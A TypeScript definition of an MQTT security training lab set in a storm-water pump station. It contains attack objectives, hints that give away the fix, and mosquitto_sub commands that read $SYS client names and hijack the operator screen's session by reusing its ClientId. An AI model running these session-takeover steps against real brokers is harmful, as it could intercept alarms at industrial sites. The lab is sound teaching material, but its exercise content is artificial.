import {
  attackObjective,
  count,
  defenceObjective,
  defineLab,
  happened,
  mqtt5,
  mqtt311,
  sequence,
} from '../../src/lab-kit/index.ts';

/** Every account has a password of its own, different for each learner. */
function password(id: string, meaning: string) {
  return { id, kind: 'password' as const, length: 16, meaning };
}

export default defineLab({
  id: 'sys-leak-takeover',
  number: 2,
  chapter: '01-overview',
  title: 'Your name is my key',
  summary: 'A visitor of a pump station reads the name of the operator’s screen, takes it, and gets the alarms.',
  story:
    'Brightwater pumps storm water out of a low-lying town. The operator’s screen, hmi-main, hangs on a radio link that breaks down now and then, ' +
    'so the broker keeps its alarms until it is back. For the screen in the lobby there is an account named visitor, whose password is printed on the back of it. ' +
    'It may read station/public, and its password is all you have.',
  minutes: 12,
  weakness: {
    cwe: 'CWE-639',
    statement:
      'Whoever has any account may use any ClientId, and with it the session of whoever bears that name; the broker tells all names under $SYS.',
  },
  specs: [
    mqtt311('3.1.4-2'),
    mqtt311('3.1.2-4'),
    mqtt311('3.1.2-8'),
    mqtt311('4.7.2-1'),
    mqtt5('3.1.4-3'),
    mqtt5('5.4.2'),
  ],
  protocolVersions: [4, 5],
  listeners: [
    { name: 'ws', transport: 'ws' },
    { name: 'tcp', transport: 'tcp' },
  ],

  secrets: [
    password('hmi', 'password of the operator’s screens'),
    password('pump-2', 'password of pump 2'),
    password('monitor', 'password of those who watch over the broker'),
    { ...password('visitor', 'password of the lobby’s screen, which you have read'), given: true },
  ],

  devices: [
    {
      id: 'hmi-main',
      actor: 'operator:hmi',
      kind: 'display',
      label: 'Operator’s screen',
      clientId: 'hmi-main',
      userName: 'hmi',
      cleanSession: false,
      subscribeQos: 1,
      outages: { everyMs: 5_000, lastMs: 3_500 },
      topics: {
        'watch-alarms': 'station/+/alarm',
        'watch-states': 'station/+/state',
        status: 'hmi/status',
      },
      payloads: { will: 'OFFLINE' },
    },
    {
      id: 'pump-2',
      actor: 'device:pump-2',
      kind: 'pump',
      label: 'Pump 2',
      clientId: 'pump-2',
      userName: 'pump-2',
      publishQos: 1,
      topics: {
        state: 'station/pump-2/state',
        cmd: 'station/pump-2/cmd',
        'telemetry-public': 'station/public/flow',
        'telemetry-alarm': 'station/pump-2/alarm',
      },
      payloads: { 'telemetry-alarm': 'sump level 3.9 m, pump 1 has tripped' },
    },
    {
      id: 'lobby',
      actor: 'device:lobby',
      kind: 'display',
      label: 'Screen in the lobby',
      clientId: 'visitor-lobby',
      userName: 'visitor',
      topics: { watch: 'station/public/#' },
    },
  ],

  topology: {
    nodes: [
      { id: 'broker', x: 50, y: 30 },
      { id: 'hmi-main', x: 50, y: 6 },
      { id: 'pump-2', x: 12, y: 30 },
      { id: 'lobby', x: 88, y: 30 },
      { id: 'attacker', x: 50, y: 54 },
    ],
  },

  objectives: [
    attackObjective(
      'A1',
      'Let the broker tell you that hmi-main has connected.',
      count(
        happened('message.delivered', {
          actor: 'attacker',
          topicName: { topicFilter: '$SYS/+/new/clients' },
          text: 'hmi-main',
        }),
        1,
      ),
    ),
    attackObjective(
      'A2',
      'Take the session of hmi-main while the operator is using it.',
      count(happened('session.taken-over', { clientId: 'hmi-main', actor: 'operator:hmi', byActor: 'attacker' }), 1),
    ),
    attackObjective(
      'A3',
      'Receive an alarm that waited for the operator, without ever subscribing to it.',
      count(
        happened('message.delivered', {
          actor: 'attacker',
          clientId: 'hmi-main',
          path: 'queued',
          topicName: { topicFilter: 'station/+/alarm' },
          fromActor: 'device:pump-2',
        }),
        1,
      ),
    ),
    attackObjective(
      'A4',
      'Make the broker announce that the operator’s screen is offline.',
      sequence(
        happened('session.taken-over', { clientId: 'hmi-main', actor: 'operator:hmi', byActor: 'attacker' }),
        happened('publish.accepted', {
          clientId: 'hmi-main',
          actor: 'operator:hmi',
          topicName: 'hmi/status',
          will: true,
        }),
      ),
    ),
    defenceObjective('D1', 'Keep the operator’s name for the operator, who comes back as quickly as before.'),
  ],

  hints: [
    'Which field of CONNECT decides whose session you get, and what is it compared with? And who needs to know what the broker says under $SYS?',
    'Bind the ClientId to the name that was proved by a password. Look at the names in use: the screens are hmi-main and hmi-2, the account is hmi. Keep the takeover for the same user: a screen whose line broke down has to come back at once.',
    '"clientId": { "rule": "prefixUserName", "duplicate": "takeover" } and "sys": { "readers": ["user:monitor"] }. The rest may stay as it is.',
  ],

  ownTools: [
    {
      tool: 'mosquitto_sub',
      purpose: 'Listen to what the broker says about its clients; in single quotes, because of the shell',
      command:
        "mosquitto_sub -h {{host}} -p {{port:tcp}} -u visitor -P '{{secret:visitor}}' -i visitor-2 -t '$SYS/#' -v",
    },
    {
      tool: 'mosquitto_sub',
      purpose: 'Come in as hmi-main; -c keeps the session that is there, and -t names a topic nobody uses',
      command:
        "mosquitto_sub -h {{host}} -p {{port:tcp}} -u visitor -P '{{secret:visitor}}' -i hmi-main -c -q 1 -t station/public/x -v",
    },
    {
      tool: 'mosquitto_sub',
      purpose: 'Read what a visitor may read',
      command: "mosquitto_sub -h {{host}} -p {{port:tcp}} -u visitor -P '{{secret:visitor}}' -t 'station/public/#' -v",
    },
  ],

  defaultTopics: [
    '$SYS/#',
    '$SYS/+/new/clients',
    '$SYS/+/new/subscribes',
    '$SYS/+/disconnect/clients',
    'station/public/#',
    'station/pump-2/alarm',
    'hmi/status',
  ],
});
